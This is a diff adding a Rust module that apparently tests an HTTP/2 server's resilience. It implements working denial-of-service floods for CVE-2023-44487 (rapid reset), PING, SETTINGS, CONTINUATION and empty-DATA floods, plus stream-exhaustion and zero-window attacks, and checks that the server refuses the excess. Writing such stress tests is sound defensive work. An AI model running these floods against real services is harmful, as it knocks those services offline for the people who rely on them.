@@ -1,0 +1,173 @@
+//! Attacks over HTTP/2: floods of frames, and streams that are not read.
+//!
+//! The server ends connections that go too far; how it does so is the HTTP library's, that the
+//! others are served meanwhile is what counts here.
+
+use core::time::Duration;
+
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+use tokio::time::{self, Instant};
+
+use crate::attack::{FLOODERS, Statuses, Target, flood, open};
+use crate::frames::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, frame, head,
+    header, setting, start,
+};
+use crate::http1::batch;
+
+/// Streams of a connection: those that the server allows
+const STREAMS: u32 = 256;
+/// The window of a client that reads all
+const WINDOW: u32 = 1 << 20;
+
+/// Floods over some connections at a time, each of which starts again when the server ends it
+async fn floods(target: Target, first: Vec<u8>, bytes: Vec<u8>) -> (u64, u64) {
+    floods_of(target, first, move |_| bytes.clone()).await
+}
+
+/// As [`floods`], with bytes that depend on the number of the flood on its connection
+async fn floods_of(
+    target: Target,
+    first: Vec<u8>,
+    bytes: impl Fn(u32) -> Vec<u8> + Clone + 'static,
+) -> (u64, u64) {
+    let end = Instant::now() + target.duration;
+    let mut loops = JoinSet::new();
+    for _ in 0..FLOODERS {
+        let (first, bytes) = (first.clone(), bytes.clone());
+        loops.spawn_local(async move {
+            let (mut connections, mut count) = (0, 0);
+            while Instant::now() < end {
+                let mut stream =
+                    TcpStream::connect(target.address).await.expect("the server accepts");
+                connections += 1;
+                if stream.write_all(&first).await.is_err() {
+                    continue;
+                }
+                for number in 0.. {
+                    let sent = flood_once(&mut stream, &bytes(number), end).await;
+                    count += sent;
+                    if sent == 0 {
+                        break;
+                    }
+                }
+            }
+            (connections, count)
+        });
+    }
+    let ended = loops.join_all().await;
+    ended.into_iter().fold((0, 0), |sum, it| (sum.0 + it.0, sum.1 + it.1))
+}
+
+/// Sends once; 0 if the connection ended or the time is over
+async fn flood_once(stream: &mut TcpStream, bytes: &[u8], end: Instant) -> u64 {
+    if Instant::now() >= end {
+        return 0;
+    }
+    let soon = end.min(Instant::now() + Duration::from_micros(1));
+    flood(stream, bytes, soon).await
+}
+
+/// CVE-2023-44487
+pub(crate) async fn rapid_reset(target: Target) -> String {
+    let request = move |number: u32| {
+        let mut bytes = Vec::new();
+        for index in 0..100 {
+            let stream = 2 * (number * 100 + index) + 1;
+            let path = "/status";
+            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET", path)));
+            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+        }
+        bytes
+    };
+    let (connections, count) = floods_of(target, start(WINDOW), request).await;
+    format!("{} requests on {connections} connections", 100 * count)
+}
+
+/// CVE-2019-9512
+pub(crate) async fn pings(target: Target) -> String {
+    let ping = frame(PING, 0, 0, b"abcdefgh").repeat(100);
+    let (connections, count) = floods(target, start(WINDOW), ping).await;
+    format!("{} pings on {connections} connections", 100 * count)
+}
+
+/// CVE-2019-9515
+pub(crate) async fn settings(target: Target) -> String {
+    let change = setting(crate::frames::INITIAL_WINDOW_SIZE, WINDOW).repeat(100);
+    let (connections, count) = floods(target, start(WINDOW), change).await;
+    format!("{} settings on {connections} connections", 100 * count)
+}
+
+/// CVE-2024-27316
+pub(crate) async fn continuations(target: Target) -> String {
+    let first = [start(WINDOW), frame(HEADERS, END_STREAM, 1, &head("GET", "/health"))].concat();
+    let more = frame(CONTINUATION, 0, 1, &header("x", &"x".repeat(100)).repeat(100));
+    let (connections, count) = floods(target, first, more).await;
+    format!("{count} frames of 10 KiB on {connections} connections")
+}
+
+/// CVE-2019-9518
+pub(crate) async fn empty_data(target: Target) -> String {
+    let mut head = head("POST", "/");
+    head.extend(header("content-type", "application/json"));
+    let first = [start(WINDOW), frame(HEADERS, END_HEADERS, 1, &head)].concat();
+    let (connections, count) = floods(target, first, frame(DATA, 0, 1, b"").repeat(100)).await;
+    format!("{} frames on {connections} connections", 100 * count)
+}
+
+/// Streams that wait, on every connection four times as many as the server allows
+pub(crate) async fn streams(target: Target) -> String {
+    let mut bytes = start(WINDOW);
+    let path = "/tx/GKwe8PT8YLdJiztcH7TpVkf7GVHFtHu4tNW9x5woDp6T/events";
+    for index in 0..4 * STREAMS {
+        let head = head("GET", path);
+        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, &head));
+    }
+    let connections = (target.connections / STREAMS as usize).max(2);
+    let mut held = open(Target { connections, ..target }, &bytes).await;
+    time::sleep(target.duration).await;
+    let mut statuses = Statuses::default();
+    for stream in &mut held {
+        let kinds = frames_of(stream).await;
+        let count = |kind: u8| kinds.iter().filter(|it| **it == kind).count();
+        assert!(count(HEADERS) <= STREAMS as usize, "{} streams are answered", count(HEADERS));
+        let is_refused = count(RST_STREAM) > 0 || count(GOAWAY) > 0 || kinds.is_empty();
+        statuses.add(if is_refused { "refused" } else { "held" });
+    }
+    assert_eq!(statuses.count("held"), 0, "{}", statuses.text());
+    format!("{} streams on {connections} connections: {}", 4 * STREAMS, statuses.text())
+}
+
+/// The kinds of the frames that were received
+async fn frames_of(stream: &mut TcpStream) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    let _ = time::timeout(Duration::from_millis(300), stream.read_to_end(&mut bytes)).await;
+    let mut kinds = Vec::new();
+    let mut rest = &bytes[..];
+    while let [a, b, c, kind, _, _, _, _, _, payload @ ..] = rest {
+        kinds.push(*kind);
+        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
+        rest = payload.get(length..).unwrap_or_default();
+    }
+    kinds
+}
+
+/// Requests for large responses with a window of nothing, as many streams as the server allows
+pub(crate) async fn unread_responses(target: Target) -> String {
+    let mut bytes = start(0);
+    let body = batch();
+    let mut post = head("POST", "/");
+    post.extend(header("content-type", "application/json"));
+    post.extend(header("content-length", &body.len().to_string()));
+    for index in 0..STREAMS {
+        let stream = 2 * index + 1;
+        bytes.extend(frame(HEADERS, END_HEADERS, stream, &post));
+        bytes.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
+    }
+    let connections = (target.connections / STREAMS as usize).max(2);
+    let held = open(Target { connections, ..target }, &bytes).await;
+    time::sleep(target.duration).await;
+    format!("{STREAMS} requests on each of {} connections", held.len())
+}
